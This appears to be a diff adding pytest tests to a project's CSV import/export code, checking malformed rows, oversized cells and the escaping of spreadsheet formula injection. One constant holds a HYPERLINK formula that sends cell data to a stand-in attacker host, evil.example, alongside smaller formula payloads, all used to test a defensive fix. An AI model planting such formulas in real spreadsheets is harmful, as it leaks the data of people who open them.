@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
 
@@ -14,6 +15,7 @@ from graph.io.export import ExportFormat, export
 from graph.io.tables import COLUMNS, TableKind, import_table, table_rows, template
 from graph.members import find_member
 from graph.namespaces import VOCAB
+from graph.store import open_store
 
 ORGANISER, WREN = Viewer.organiser(), Viewer.member("wren")
 
@@ -181,3 +183,103 @@ def test_the_commands_write_templates_import_and_export(run_praxis, tmp_path):
     assert result.returncode == 2 and b"the column 'date' is missing" in result.stderr
     result = run_praxis("--as", "visitor", "export", "--format", "csv", "--kind", "readings")
     assert result.returncode == 0 and result.stdout.startswith(b"id,title,authors")
+
+
+# ------------------------------------------------------------------ malformed rows, formulas
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        # issue 16, item 5: a row with too few cells was accepted silently
+        ("name,date,place\nPicket,2025-03-12\n", r"row 2: the row has 2 cells but the header has 3 columns"),
+        ("name,date\nPicket,2025-03-12,Town hall,x\n", r"row 2: the row has 4 cells .* a cell too many"),
+        (
+            'name,date,place\nPicket,2025-03-12,"Town hall\n',
+            r"line 2: this is not a readable CSV file \(a quoted",
+        ),
+        (
+            'name,date,place\n"Two\nlines",2025-03-12,x\nShort,2025-03-13\n',
+            r"row 3: the row \(line 4\) has 2 cells",
+        ),
+    ],
+)
+def test_malformed_rows_and_cut_files_are_refused_with_row_and_line(seeded, text, message):
+    before = snapshot(seeded)
+    with pytest.raises(BadInput, match=message):
+        run(seeded, TableKind.ACTIONS, text)
+    assert snapshot(seeded) == before
+
+
+def test_every_malformed_row_is_listed(seeded):
+    with pytest.raises(BadInput) as error:
+        run(seeded, TableKind.ACTIONS, "name,date,place\nA,2025-01-01\nB,2025-01-02,x\nC\n")
+    assert "2 problems" in str(error.value)
+    assert "row 2: the row has 2 cells" in str(error.value) and "row 4: the row has 1 cells" in str(
+        error.value
+    )
+
+
+def test_a_cell_over_the_value_limit_is_refused_with_row_and_column(seeded):
+    before = snapshot(seeded)
+    with pytest.raises(BadInput, match=r"row 2, column 'place': the field place is 1\.1 MiB"):
+        run(seeded, TableKind.ACTIONS, f"name,date,place\nPicket,2025-03-12,{'é' * 600_000}\n")
+    with pytest.raises(BadInput, match=r"line 2: .* \(a cell holds more than 1,048,576 characters"):
+        run(seeded, TableKind.ACTIONS, f"name,date,place\nPicket,2025-03-12,{'x' * 2**21}\n")
+    assert snapshot(seeded) == before
+
+
+NUMBER = re.compile(r"[+-]?\d+(\.\d*)?")  # a spreadsheet reads "+1" and "-2" as numbers: no formula
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def csv_text(header: list[str], *rows: list[str]) -> str:
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([header, *rows])
+    return buffer.getvalue()
+
+
+def hostile_rows(store, kind: TableKind, column: str, value: str) -> list[dict[str, str]]:
+    rows = [row for row in table_rows(store, ORGANISER, kind) if row.get(column) == value]
+    return [{name: cell for name, cell in row.items() if name != "id"} for row in rows]
+
+
+def test_csv_exports_escape_formulas_and_imports_give_back_the_same_records(seeded, seed_quads):
+    """Issue 16, item 5: exports wrote cells starting with =, +, -, @ as given (formula injection)."""
+    written = [
+        (
+            TableKind.READINGS,
+            ["title", "publisher", "abstract", "keywords", "year"],
+            [LINK, "+1", "@SUM(A1)", "-x", "2001"],
+        ),
+        (
+            TableKind.LESSONS,
+            ["title", "action", "taught", "supports", "evidence", "member"],
+            ["@SUM(A1)", "px:action-ff2dd6", "-x", "pxv:nvda", "=1+1", "+1"],
+        ),
+        (
+            TableKind.ASSESSMENTS,
+            ["action", "indicator", "score", "evidence"],
+            ["px:action-ff2dd6", "Media coverage", "-2", LINK],
+        ),
+    ]
+    other = open_store("memory:")
+    other.backend.extend(seed_quads)
+    for kind, header, cells in written:
+        run(seeded, kind, csv_text(header, cells))
+        column, value = ("title", cells[0]) if kind is not TableKind.ASSESSMENTS else ("evidence", LINK)
+        before = hostile_rows(seeded, kind, column, value)
+        assert len(before) == 1, kind
+
+        text = export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind=kind.value).decode()
+        cells_out = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        formulas = [c for c in cells_out if c[:1] in ("=", "+", "-", "@") and not NUMBER.fullmatch(c)]
+        assert formulas == [], kind  # a spreadsheet would run these
+        assert kind is not TableKind.ASSESSMENTS or "-2" in cells_out  # a plain score stays a number
+
+        exported = [row for row in parse(text) if row[column].lstrip("'") == value.lstrip("'")]
+        again = csv_text(
+            list(exported[0]),
+            *[[cell if name != "id" else "" for name, cell in row.items()] for row in exported],
+        )
+        report = run(other, kind, again)
+        assert report.added == 1, kind
+        assert hostile_rows(other, kind, column, value) == before, kind
